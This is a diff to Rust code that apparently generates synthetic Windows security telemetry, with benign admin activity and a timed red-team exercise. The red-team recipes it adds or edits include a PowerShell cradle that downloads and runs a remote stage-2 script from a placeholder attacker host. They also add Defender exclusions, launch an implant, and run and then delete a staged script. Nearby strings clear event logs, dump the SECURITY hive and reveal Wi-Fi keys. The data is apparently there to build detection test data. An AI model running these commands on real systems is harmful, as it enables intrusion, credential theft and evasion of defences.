@@ -151,6 +151,8 @@ struct Recipe {
     rate: f64,
     steps: &'static [Step],
     side: &'static [Side],
+    /// Red-team steps: minutes after the operator's session start (the exercise's script).
+    at_min: i64,
 }
 
 const fn rc(
@@ -168,6 +170,27 @@ const fn rc(
         rate,
         steps,
         side,
+        at_min: 0,
+    }
+}
+
+/// A step of the red-team exercise, `at_min` minutes into the operator's session.
+const fn red(
+    place: Place,
+    root: P,
+    who: Who,
+    at_min: i64,
+    steps: &'static [Step],
+    side: &'static [Side],
+) -> Recipe {
+    Recipe {
+        place,
+        root,
+        who,
+        rate: 1.0,
+        steps,
+        side,
+        at_min,
     }
 }
 
@@ -498,13 +521,9 @@ const RECIPES: &[Recipe] = &[
             st(
                 0,
                 Img::Git,
-                "\"C:\\Program Files\\Git\\cmd\\git.exe\" commit -m \"Fix pagination in orders endpoint\"",
+                "git commit -m \"Fix pagination in orders endpoint\"",
             ),
-            st(
-                0,
-                Img::Git,
-                "\"C:\\Program Files\\Git\\cmd\\git.exe\" push origin feature/orders-{n}",
-            ),
+            st(0, Img::Git, "git push origin feature/orders-{n}"),
         ],
         &[],
     ),
@@ -516,7 +535,7 @@ const RECIPES: &[Recipe] = &[
         &[st(
             0,
             Img::Git,
-            "\"C:\\Program Files\\Git\\cmd\\git.exe\" config --local user.email {sam}@contoso.com",
+            "git config --local user.email {sam}@contoso.com",
         )],
         &[],
     ),
@@ -642,7 +661,7 @@ const RECIPES: &[Recipe] = &[
             st(
                 1,
                 Img::Netsh,
-                "\"C:\\Windows\\system32\\netsh.exe\" wlan show profile name=\"Contoso-Guest\" key=clear",
+                "netsh  wlan show profile name=\"Contoso-Guest\" key=clear",
             ),
             st(
                 1,
@@ -709,6 +728,23 @@ const RECIPES: &[Recipe] = &[
             "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"Get-MpComputerStatus | Select-Object AMProductVersion,AntivirusSignatureVersion,RealTimeProtectionEnabled; Get-MpPreference | Select-Object -ExpandProperty ExclusionPath\"",
         )],
         &[],
+    ),
+    rc(
+        Place::ItWs,
+        P::Explorer,
+        Who::Admin,
+        0.2,
+        &[st(
+            0,
+            Img::PowerShell,
+            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"(New-Object Net.WebClient).DownloadFile('https://aka.ms/vs/17/release/vc_redist.x64.exe', 'C:\\Temp\\vc_redist.x64.exe')\"",
+        )],
+        &[file(
+            1,
+            "FileCreated",
+            "C:\\Temp\\vc_redist.x64.exe",
+            25_641_968,
+        )],
     ),
     // Software deployment from the share and the vendor.
     rc(
@@ -915,7 +951,7 @@ const RECIPES: &[Recipe] = &[
         Place::Dc,
         P::SvcSchedule,
         Who::Svc("svc-backup"),
-        0.15,
+        0.3,
         &[st(
             0,
             Img::Ntdsutil,
@@ -1073,11 +1109,11 @@ const RECIPES: &[Recipe] = &[
         )],
     ),
     // ---- The red-team exercise ----------------------------------------------------------
-    rc(
+    red(
         Place::RedTeam,
         P::Explorer,
         Who::User,
-        1.0,
+        30,
         &[
             st(
                 0,
@@ -1169,6 +1205,11 @@ const RECIPES: &[Recipe] = &[
                 Img::Reg,
                 "reg  save HKLM\\SECURITY C:\\Users\\Public\\security.save",
             ),
+            st(
+                7,
+                Img::PowerShell,
+                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -c \"iex (iwr http://{rt}/payloads/stage2.ps1 -UseBasicParsing)\"",
+            ),
         ],
         &[
             file(
@@ -1202,11 +1243,11 @@ const RECIPES: &[Recipe] = &[
             load(7, Img::Mscoree),
         ],
     ),
-    rc(
+    red(
         Place::RedTeam,
         P::Explorer,
         Who::User,
-        1.0,
+        70,
         &[
             st(
                 0,
@@ -1216,7 +1257,7 @@ const RECIPES: &[Recipe] = &[
             st(
                 0,
                 Img::PowerShell,
-                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -WindowStyle Hidden -Command \"try { Add-MpPreference -ExclusionPath 'C:\\Users\\Public','C:\\ProgramData\\AtomicTest' } catch { Write-Host $_ }\"",
+                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -WindowStyle Hidden -Command \"try { Add-MpPreference -ExclusionPath 'C:\\Users\\Public','C:\\ProgramData\\AtomicTest'; Start-Process C:\\Users\\Public\\rt-implant.exe } catch { Write-Host $_ }\"",
             ),
             st(
                 0,
@@ -1294,6 +1335,12 @@ const RECIPES: &[Recipe] = &[
                 Img::PowerShell,
                 "powershell.exe  -command \"Set-MpPreference -EnableControlledFolderAccess Disabled\"",
             ),
+            st(2, Img::RtImplant, "C:\\Users\\Public\\rt-implant.exe"),
+            st(
+                0,
+                Img::PowerShell,
+                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ep bypass -command \"get-content C:\\Users\\Public\\art-stage.txt | iex; remove-item C:\\Users\\Public\\art-stage.txt\"",
+            ),
         ],
         &[
             load(1, Img::Vaultcli),
@@ -1315,11 +1362,11 @@ const RECIPES: &[Recipe] = &[
             ),
         ],
     ),
-    rc(
+    red(
         Place::RedTeam,
         P::Explorer,
         Who::User,
-        1.0,
+        110,
         &[
             st(0, Img::Cmd, "\"C:\\Windows\\system32\\cmd.exe\" "),
             st(1, Img::Whoami, "whoami  /groups"),
@@ -1364,7 +1411,7 @@ const RECIPES: &[Recipe] = &[
             st(
                 1,
                 Img::Wevtutil,
-                "wevtutil  cl Microsoft-Windows-PowerShell/Operational",
+                "wevtutil.exe  cl Microsoft-Windows-PowerShell/Operational",
             ),
             st(
                 1,
@@ -1415,7 +1462,7 @@ const RECIPES: &[Recipe] = &[
             st(
                 0,
                 Img::Wscript,
-                "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{sam}\\AppData\\Local\\Temp\\AtomicTest.js\" ",
+                "\"C:\\Windows\\System32\\WScript.exe\" C:\\Users\\{sam}\\AppData\\Local\\Temp\\AtomicTest.js",
             ),
             st(
                 28,
@@ -1474,12 +1521,36 @@ const RECIPES: &[Recipe] = &[
             load(28, Img::Mscoree),
         ],
     ),
+    // Defender records the exclusions the red team added.
+    red(
+        Place::RedTeam,
+        P::MsMpEng,
+        Who::System,
+        71,
+        &[],
+        &[
+            reg(
+                0,
+                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
+                "C:\\Users\\Public",
+                "Dword",
+                "0",
+            ),
+            reg(
+                0,
+                "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
+                "C:\\ProgramData\\AtomicTest",
+                "Dword",
+                "0",
+            ),
+        ],
+    ),
     // The red team's lateral-movement test: wmiexec-style commands on a server.
-    rc(
+    red(
         Place::RedTarget,
         P::SvcDcom,
         Who::Admin,
-        1.0,
+        77,
         &[
             st(
                 0,
@@ -1508,11 +1579,11 @@ const RECIPES: &[Recipe] = &[
             file(3, "FileCreated", "C:\\Windows\\__{ts}.{frac}", 1_422),
         ],
     ),
-    rc(
+    red(
         Place::RedTarget,
         P::Services,
         Who::System,
-        1.0,
+        72,
         &[
             st(0, Img::Psexesvc, "C:\\Windows\\PSEXESVC.exe"),
             st(1, Img::Cmd, "\"cmd.exe\" /c hostname"),
@@ -1628,14 +1699,12 @@ fn plan(w: &World, ctx: &Ctx, dev: &Device) -> Vec<Instance> {
         for _ in 0..n {
             let day0 = ctx.day * DAY;
             let t = match rec.place {
-                Place::RedTeam => match ctx.session {
-                    Some((s0, _)) => s0 + 30 * MIN + r.range(0, 2 * HOUR),
-                    None => continue,
-                },
-                Place::RedTarget => match ex.as_ref().and_then(|e| w.session(e.ws, ctx.day)) {
-                    Some((s0, _)) => s0 + 30 * MIN + r.range(0, 2 * HOUR),
-                    None => continue,
-                },
+                Place::RedTeam | Place::RedTarget => {
+                    match ex.as_ref().and_then(|e| w.session(e.ws, ctx.day)) {
+                        Some((s0, _)) => s0 + rec.at_min * MIN + r.range(0, 20 * SEC),
+                        None => continue,
+                    }
+                }
                 _ if admin_work => day0 + r.range(9 * HOUR, 17 * HOUR),
                 _ if rec.who == Who::System || matches!(rec.who, Who::Svc(_)) => {
                     day0 + r.range(0, DAY - 10 * MIN)
@@ -1743,6 +1812,16 @@ fn plan(w: &World, ctx: &Ctx, dev: &Device) -> Vec<Instance> {
                 expand(&mut x, a, &vars, &mut r);
                 expand(&mut y, b, &vars, &mut r);
                 side.push((ts, si, x, y));
+            }
+            // An activity is written whole or not at all (the window's edges).
+            let last = procs
+                .iter()
+                .map(|p| p.proc.created)
+                .chain(side.iter().map(|x| x.0))
+                .max()
+                .unwrap_or(t);
+            if t < ctx.lo || last + 200_000_000 >= ctx.hi {
+                continue;
             }
             out.push(Instance {
                 root,
